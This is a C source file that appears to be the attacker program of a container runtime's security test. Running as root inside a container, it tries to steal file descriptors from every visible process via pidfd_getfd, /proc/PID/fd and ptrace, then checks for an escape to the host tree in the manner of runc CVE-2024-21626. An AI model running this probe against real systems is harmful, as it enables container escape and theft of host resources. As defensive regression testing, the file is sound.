/* SPDX-License-Identifier: Apache-2.0 */
/*
 * grab.c - the attacker of tests/security/setup_fds.sh: runs as root inside
 * a container (built static, copied into the bundle's rootfs) while the host
 * runs a burst of ExecProcess, and tries to take whatever the processes it
 * can see hold, the way runc CVE-2024-21626 and the review's proof of
 * concept did:
 *   - pidfd_open + pidfd_getfd on fds 0..FD_MAX of every visible pid;
 *   - readlink and open(O_PATH) of every /proc/PID/fd/N;
 *   - PTRACE_SEIZE of every visible pid;
 *   - for a directory it obtained, a walk up ".." to the top: a top that is
 *     not this container's "/" is the guest's tree (ESCAPE).
 *
 *   grab STOP_FILE CONTROL_COMM     (runs until STOP_FILE exists)
 *
 * One line per distinct thing obtained, on stdout:
 *   GOT <how> pid=<pid> comm=<comm> fd=<n> kind=<sock|pidfd|anon|dir|reg|fifo|chr|blk|lnk|?> where=<in|out|-> <link>
 *   PTRACE pid=<pid> comm=<comm>
 *   ESCAPE pid=<pid> comm=<comm> fd=<n> <link>
 *   SEEN pid=<pid> comm=<comm>             (each pid and name met once)
 * where=in: the object is what the link's path names in this container
 * (same device and inode), out: it is not, e.g. a guest file or a
 * namespace, -: a pipe or socket. <comm> is the name read after the attempt succeeded: a name only changes
 * at execve, so one still naming the agent's binary means the success
 * happened while the process was the agent's setup code, not the program
 * it became. The process named CONTROL_COMM (the container's init, which
 * holds fd 7 open on a file) is attacked too and reported as
 * "CONTROL <how>": the proof that the technique works here, so that getting
 * nothing from the agent's processes means something. A summary
 * "SCANS n PIDS m" ends the output.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <stdbool.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define FD_MAX 64
#define SEEN_MAX 4096

static char *seen[SEEN_MAX];
static unsigned n_seen;
static const char *control;
static bool is_control;
static unsigned long pids_seen;

static void report(const char *line)
{
	for (unsigned i = 0; i < n_seen; i++)
		if (!strcmp(seen[i], line))
			return;
	if (n_seen < SEEN_MAX)
		seen[n_seen++] = strdup(line);
	printf("%s\n", line);
	fflush(stdout);
}

static void comm_of(pid_t pid, char *out, size_t len)
{
	char p[64];
	snprintf(p, sizeof(p), "/proc/%d/comm", (int)pid);
	int fd = open(p, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd >= 0 ? read(fd, out, len - 1) : -1;
	if (fd >= 0)
		close(fd);
	if (n <= 0)
		n = 0;
	if (n > 0 && out[n - 1] == '\n')
		n--;
	out[n] = '\0';
	for (char *c = out; *c; c++)
		if (*c == ' ')
			*c = '_';
}

/* Is the object behind fd (a file, directory or device) the one its link's
 * path names here? Pipes and sockets have no path: "-". */
static const char *where(int fd, const char *link)
{
	struct stat a, b;
	if (fstat(fd, &a) < 0)
		return "out";
	if (S_ISFIFO(a.st_mode) || S_ISSOCK(a.st_mode))
		return "-";
	if (link[0] != '/' || stat(link, &b) < 0)
		return "out";
	return a.st_dev == b.st_dev && a.st_ino == b.st_ino ? "in" : "out";
}

static const char *kind_of(int fd, const char *link)
{
	struct stat st;
	if (fstat(fd, &st) < 0)
		return "?";
	switch (st.st_mode & S_IFMT) {
	case S_IFSOCK:
		return "sock";
	case S_IFDIR:
		return "dir";
	case S_IFREG:
		return "reg";
	case S_IFIFO:
		return "fifo";
	case S_IFCHR:
		return "chr";
	case S_IFBLK:
		return "blk";
	case S_IFLNK:
		return "lnk";
	}
	if (strstr(link, "pidfd"))
		return "pidfd";
	return strncmp(link, "anon_inode:", 11) ? "?" : "anon";
}

/* Walk ".." from a directory to its top; a top other than our "/" is the
 * guest's tree. */
static int escapes(int dirfd)
{
	struct stat root, cur, up;
	if (stat("/", &root) < 0)
		return 0;
	int fd = dup(dirfd);
	for (int i = 0; fd >= 0 && i < 256; i++) {
		if (fstat(fd, &cur) < 0)
			break;
		int p = openat(fd, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
		if (p < 0 || fstat(p, &up) < 0) {
			if (p >= 0)
				close(p);
			break;
		}
		close(fd);
		fd = p;
		if (up.st_dev == cur.st_dev && up.st_ino == cur.st_ino) {
			close(fd);
			return !(cur.st_dev == root.st_dev && cur.st_ino == root.st_ino);
		}
	}
	if (fd >= 0)
		close(fd);
	return 0;
}

static void got(const char *how, pid_t pid, int n, int fd)
{
	char self[64], link[512] = "", line[1024], comm[64];
	comm_of(pid, comm, sizeof(comm));
	snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
	ssize_t l = readlink(self, link, sizeof(link) - 1);
	link[l > 0 ? l : 0] = '\0';
	const char *k = kind_of(fd, link);
	snprintf(line, sizeof(line), "%s %s pid=%d comm=%s fd=%d kind=%s where=%s %s",
		 is_control ? "CONTROL" : "GOT", how, (int)pid, comm, n, k, where(fd, link), link);
	report(line);
	if (!strcmp(k, "dir") && escapes(fd)) {
		snprintf(line, sizeof(line), "ESCAPE pid=%d comm=%s fd=%d %s", (int)pid, comm, n,
			 link);
		report(line);
	}
}

static void attack(pid_t pid)
{
	char comm[64], line[768];
	comm_of(pid, comm, sizeof(comm));
	is_control = !strcmp(comm, control);
	snprintf(line, sizeof(line), "SEEN pid=%d comm=%s", (int)pid, comm);
	report(line);
	int pfd = (int)syscall(SYS_pidfd_open, pid, 0);
	if (pfd >= 0) {
		for (int n = 0; n < FD_MAX; n++) {
			int fd = (int)syscall(SYS_pidfd_getfd, pfd, n, 0);
			if (fd >= 0) {
				got("getfd", pid, n, fd);
				close(fd);
			}
		}
		close(pfd);
	}
	char dir[64];
	snprintf(dir, sizeof(dir), "/proc/%d/fd", (int)pid);
	DIR *d = opendir(dir);
	for (struct dirent *e; d && (e = readdir(d));) {
		if (e->d_name[0] == '.')
			continue;
		char p[384], link[512];
		snprintf(p, sizeof(p), "%s/%s", dir, e->d_name);
		ssize_t l = readlink(p, link, sizeof(link) - 1);
		if (l > 0) {
			link[l] = '\0';
			comm_of(pid, comm, sizeof(comm));
			snprintf(line, sizeof(line), "%s readlink pid=%d comm=%s fd=%s %.150s",
				 is_control ? "CONTROL" : "GOT", (int)pid, comm, e->d_name, link);
			report(line);
		}
		int fd = open(p, O_PATH | O_CLOEXEC);
		if (fd >= 0) {
			got("open", pid, atoi(e->d_name), fd);
			close(fd);
		}
	}
	if (d)
		closedir(d);
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
		comm_of(pid, comm, sizeof(comm));
		snprintf(line, sizeof(line), "%s pid=%d comm=%s",
			 is_control ? "CONTROL ptrace" : "PTRACE", (int)pid, comm);
		report(line);
		ptrace(PTRACE_INTERRUPT, pid, 0, 0);
		waitpid(pid, NULL, __WALL);
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
}

int main(int argc, char **argv)
{
	if (argc != 3) {
		fprintf(stderr, "usage: grab STOP_FILE CONTROL_COMM\n");
		return 2;
	}
	control = argv[2];
	pid_t self = getpid();
	unsigned long scans = 0;
	do {
		DIR *d = opendir("/proc");
		for (struct dirent *e; d && (e = readdir(d));) {
			pid_t pid = atoi(e->d_name);
			if (pid <= 0 || pid == self)
				continue;
			pids_seen++;
			attack(pid);
		}
		if (d)
			closedir(d);
		scans++;
	} while (access(argv[1], F_OK) < 0);
	printf("SCANS %lu PIDS %lu\n", scans, pids_seen);
	return 0;
}
